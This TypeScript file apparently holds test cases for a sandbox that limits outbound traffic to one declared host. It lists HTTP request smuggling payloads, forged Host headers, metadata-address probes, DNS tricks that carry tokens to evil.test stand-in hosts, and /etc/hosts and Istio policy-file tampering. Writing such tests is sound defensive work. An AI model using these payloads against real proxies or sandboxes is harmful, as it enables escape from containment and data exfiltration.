// Attempts to abuse one declared host: whatever names it, only it may be reached, and only with requests that are for it.
import type { Attempt } from '../attempt.ts'
import type { Step } from '../attacker/steps.ts'

const theme = 'declared'

/** The one host that the policy of these attempts declares, and where it is. */
export const declaredHost = 'allowed.test'
export const declaredAddress = '203.0.113.10'

/** What would let the attacker out, if it could declare it. */
const ownDeclaration = `apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: { name: own{index}, namespace: default }
spec:
  hosts: [own{index}.test]
  addresses: ['{v4}']
  location: MESH_EXTERNAL
  resolution: STATIC
  endpoints: [{ address: '{v4}' }]
  ports: [{ number: {port}, name: tcp, protocol: TCP }]
`

const own = `Host: ${declaredHost}`
const evil = 'Host: {token}.evil.test'
const there = `${declaredAddress}:80`

/** The name is allowed, the address is not its own. */
const falseAddresses: readonly Attempt[] = [
  http('the allowed Host at another address', '{v4}:80', [`GET /{token} HTTP/1.1\r\n${own}\r\n\r\n`]),
  http('the allowed Host at another IPv6 address', '[{v6}]:80', [`GET /{token} HTTP/1.1\r\n${own}\r\n\r\n`]),
  http('the allowed Host at another address and port', '{v4}:{port}', [`GET /{token} HTTP/1.1\r\n${own}\r\n\r\n`]),
  http('the allowed Host at the metadata address', '169.254.169.254:80', [`GET /{token}.evil.test HTTP/1.1\r\n${own}\r\n\r\n`]),
  http('the allowed host’s port of another protocol', `${declaredAddress}:22`, ['SSH-2.0-{token}.evil.test\r\n']),
  { name: 'the allowed server name at another address', theme, attack: [{ do: 'tcp', to: '{v4}:443', tls: declaredHost }] },
  {
    name: 'the allowed server name at the metadata address',
    theme,
    attack: [{ do: 'tcp', to: '169.254.169.254:443', tls: declaredHost, alpn: '{token}' }],
  },
  {
    name: 'a hosts file that says the allowed host is elsewhere',
    theme,
    serial: true,
    attack: [
      { do: 'replace', path: '/etc/hosts', text: `{v4} ${declaredHost}\n` },
      { do: 'run', argv: ['curl', '-sS', '-m', '2', `http://${declaredHost}/{token}`] },
      { do: 'replace', path: '/etc/hosts', text: '{hosts}' },
    ],
  },
  {
    name: 'a client that is told the allowed host is elsewhere',
    theme,
    attack: [{ do: 'run', argv: ['curl', '-sS', '-m', '2', '--resolve', `${declaredHost}:80:{v4}`, `http://${declaredHost}/{token}`] }],
  },
]

/** The address is the allowed host's own, the request is for another. */
const falseNames: readonly Attempt[] = [
  http('another Host at the allowed address', there, [`GET / HTTP/1.1\r\n${evil}\r\n\r\n`]),
  http('a second Host', there, [`GET / HTTP/1.1\r\n${own}\r\n${evil}\r\n\r\n`]),
  http('a second Host that comes first', there, [`GET / HTTP/1.1\r\n${evil}\r\n${own}\r\n\r\n`]),
  http('two Hosts in one line', there, [`GET / HTTP/1.1\r\n${own}, {token}.evil.test\r\n\r\n`]),
  http('a Host with user information', there, [`GET / HTTP/1.1\r\nHost: ${declaredHost}@{token}.evil.test\r\n\r\n`]),
  http('a Host with a path', there, [`GET / HTTP/1.1\r\nHost: {token}.evil.test/${declaredHost}\r\n\r\n`]),
  http('a Host with a zero byte', there, [`GET / HTTP/1.1\r\nHost: {token}.evil.test\0.${declaredHost}\r\n\r\n`]),
  http('a Host below the allowed one', there, [`GET / HTTP/1.1\r\nHost: {token}.${declaredHost}\r\n\r\n`]),
  http('a Host that ends like the allowed one', there, [`GET / HTTP/1.1\r\nHost: {token}${declaredHost}\r\n\r\n`]),
  http('a whole URL of another host', there, [`GET http://{token}.evil.test/ HTTP/1.1\r\n${own}\r\n\r\n`]),
  http('a whole URL with user information', there, [`GET http://${declaredHost}@{token}.evil.test/ HTTP/1.1\r\n${own}\r\n\r\n`]),
  http('a folded header', there, [`GET / HTTP/1.1\r\n${own}\r\n ${evil}\r\n${evil}\r\n\r\n`]),
  http('a space before the colon', there, [`GET / HTTP/1.1\r\nHost : {token}.evil.test\r\n${own}\r\n\r\n`]),
  http('a header hidden behind a bare carriage return', there, [`GET / HTTP/1.1\r\nX: y\r${evil}\r\n${own}\r\n\r\n`]),
  http('CONNECT through the allowed host', there, [`CONNECT {token}.evil.test:443 HTTP/1.1\r\nHost: {token}.evil.test:443\r\n\r\n`]),
  http('CONNECT through the allowed host that says it is for it', there, [`CONNECT {token}.evil.test:443 HTTP/1.1\r\n${own}\r\n\r\n`]),
  http('CONNECT to an address', there, [`CONNECT {v4}:443 HTTP/1.1\r\nHost: {v4}\r\nX: {token}.evil.test\r\n\r\n`]),
  http('an upgrade to WebSocket of another host', there, [
    `GET / HTTP/1.1\r\n${evil}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,
  ]),
  { name: 'another host by HTTP/2', theme, attack: [{ do: 'h2', to: there, authority: '{token}.evil.test' }] },
  { name: 'HTTP/2 with two hosts', theme, attack: [{ do: 'h2', to: there, authority: declaredHost, host: '{token}.evil.test' }] },
  {
    name: 'another server name at the allowed address',
    theme,
    attack: [{ do: 'tcp', to: `${declaredAddress}:443`, tls: '{token}.evil.test' }],
  },
  {
    name: 'plain HTTP on the allowed host’s TLS port',
    theme,
    attack: [{ do: 'tcp', to: `${declaredAddress}:443`, send: [`GET / HTTP/1.1\r\n${evil}\r\n\r\n`] }],
  },
]

const get = (host: string): string => `GET / HTTP/1.1\r\n${host}\r\n\r\n`
const post = (headers: string, body: string): string => `POST / HTTP/1.1\r\n${own}\r\n${headers}\r\n\r\n${body}`

/** The first request is honest, a second one rides on it. */
const followers: readonly Attempt[] = [
  http('a pipelined second request for another host', there, [get(own) + get(evil)]),
  http('another host on a connection kept open', there, [get(own), get(evil)]),
  http('a second request after one with a body', there, [post('Content-Length: 5', 'hello') + get(evil)]),
  http('a body longer than it says', there, [post('Content-Length: 0', get(evil))]),
  http('two lengths', there, [post(`Content-Length: 0\r\nContent-Length: ${get(evil).length + 30}`, get(evil))]),
  http('two lengths in one line', there, [post(`Content-Length: 0, ${get(evil).length + 30}`, get(evil))]),
  http('a length with a sign', there, [post('Content-Length: +0', get(evil))]),
  http('length and chunks, the chunks end first', there, [
    post('Content-Length: 200\r\nTransfer-Encoding: chunked', `0\r\n\r\n${get(evil)}`),
  ]),
  http('length and chunks, the length ends first', there, [
    post('Content-Length: 4\r\nTransfer-Encoding: chunked', `5c\r\n${get(evil)}\r\n0\r\n\r\n`),
  ]),
  ...['xchunked', 'chunked, identity', 'identity, chunked', '"chunked"', 'chunked\x0b', 'CHUNKED'].map((coding, index) =>
    http(`a transfer coding that may or may not be chunked (${index + 1})`, there, [
      post(`Transfer-Encoding: ${coding}\r\nContent-Length: 5`, `0\r\n\r\n${get(evil)}`),
    ]),
  ),
  http('a transfer coding behind a space', there, [post('Transfer-Encoding : chunked\r\nContent-Length: 5', `0\r\n\r\n${get(evil)}`)]),
  http('a transfer coding on a folded line', there, [post('Transfer-Encoding:\r\n chunked\r\nContent-Length: 5', `0\r\n\r\n${get(evil)}`)]),
  http('chunk sizes that overflow', there, [post('Transfer-Encoding: chunked', `10000000000000000\r\n\r\n0\r\n\r\n${get(evil)}`)]),
  http('a chunk extension with a line break', there, [post('Transfer-Encoding: chunked', `2;\nxx\r\n5a\r\n0\r\n\r\n${get(evil)}`)]),
  http('a chunk longer than it says', there, [post('Transfer-Encoding: chunked', `1\r\nab\r\n0\r\n\r\n${get(evil)}`)]),
  http('trailers that end in another request', there, [post('Transfer-Encoding: chunked', `0\r\nX: y\r\n\r\n${get(evil)}`)]),
  http('lines that end without a carriage return', there, [`GET / HTTP/1.1\n${own}\n\n${`GET / HTTP/1.1\n${evil}\n\n`}`]),
  http('HTTP/1.0 that keeps the connection', there, [`GET / HTTP/1.0\r\n${own}\r\nConnection: keep-alive\r\n\r\n${get(evil)}`]),
  http('a request after an upgrade that was not granted', there, [
    `GET / HTTP/1.1\r\n${own}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,
    get(evil),
  ]),
  http('an upgrade to HTTP/2 that was not granted', there, [
    `GET / HTTP/1.1\r\n${own}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n`,
    get(evil),
  ]),
  http('a request that is awaited with 100-continue', there, [
    `POST / HTTP/1.1\r\n${own}\r\nExpect: 100-continue\r\nContent-Length: 0\r\n\r\n`,
    get(evil),
  ]),
]

const namesBeside: readonly Attempt[] = [
  { name: 'a name below the declared one', theme, attack: [{ do: 'resolve', name: `{token}.${declaredHost}` }] },
  { name: 'a declared name with data in an EDNS option', theme, attack: [{ do: 'query', name: declaredHost, option: '{token}' }] },
  { name: 'a second question beside the declared name', theme, attack: [{ do: 'query', name: declaredHost, also: '{token}.test' }] },
  { name: 'UDP to the allowed host', theme, attack: [{ do: 'udp', to: `${declaredAddress}:443`, data: '{token}.evil.test' }] },
  {
    name: 'ping to the allowed host',
    theme,
    attack: [{ do: 'socket', family: 'inet', type: 'datagram', protocol: 1, to: `${declaredAddress}:0`, data: 'hex:0800000000000001' }],
    shows: `ICMP to ${declaredAddress}`,
  },
]

/** Where the sidecar reads what is declared. */
export const policyDirectory = '/tmp/policies/here'
const ownFile = `${policyDirectory}/own.yaml`

/** Who may declare may leave. */
const declarations: readonly Attempt[] = [
  declaring(
    'a declaration of its own, in the file that the sidecar reads',
    [{ do: 'replace', path: `${policyDirectory}/allowed.yaml`, text: `{policy}---\n${ownDeclaration}` }],
    [{ do: 'replace', path: `${policyDirectory}/allowed.yaml`, text: '{policy}' }],
  ),
  declaring(
    'a declaration of its own, in a new file',
    [{ do: 'replace', path: ownFile, text: ownDeclaration }],
    [{ do: 'run', argv: ['rm', '-f', ownFile] }],
  ),
  declaring(
    'a declaration of its own, in a directory that takes the place of the real one',
    [
      { do: 'run', argv: ['mv', '/tmp/policies', '/tmp/policies.{index}'] },
      { do: 'run', argv: ['mkdir', '-p', policyDirectory] },
      { do: 'replace', path: ownFile, text: ownDeclaration },
    ],
    [
      { do: 'run', argv: ['rm', '-f', ownFile] },
      { do: 'run', argv: ['rmdir', policyDirectory, '/tmp/policies'] },
      { do: 'run', argv: ['mv', '/tmp/policies.{index}', '/tmp/policies'] },
    ],
  ),
  declaring(
    'a declaration of its own, through a link to the file',
    [
      { do: 'run', argv: ['ln', `${policyDirectory}/allowed.yaml`, '/tmp/escape/link{index}'] },
      { do: 'replace', path: '/tmp/escape/link{index}', text: `{policy}---\n${ownDeclaration}` },
    ],
    [
      { do: 'replace', path: '/tmp/escape/link{index}', text: '{policy}' },
      { do: 'run', argv: ['rm', '-f', '/tmp/escape/link{index}'] },
    ],
  ),
]

export const declaredAttempts: readonly Attempt[] = [...falseAddresses, ...falseNames, ...followers, ...namesBeside, ...declarations]

function declaring(name: string, before: readonly Step[], after: readonly Step[]): Attempt {
  const attack: readonly Step[] = [...before, { do: 'run', argv: ['sleep', '0.7'] }, { do: 'tcp', to: '{v4}:{port}' }, ...after]
  return { name, theme, serial: true, attack }
}

function http(name: string, to: string, send: readonly string[]): Attempt {
  const step: Step = { do: 'tcp', to, send }
  return { name, theme, attack: [step] }
}
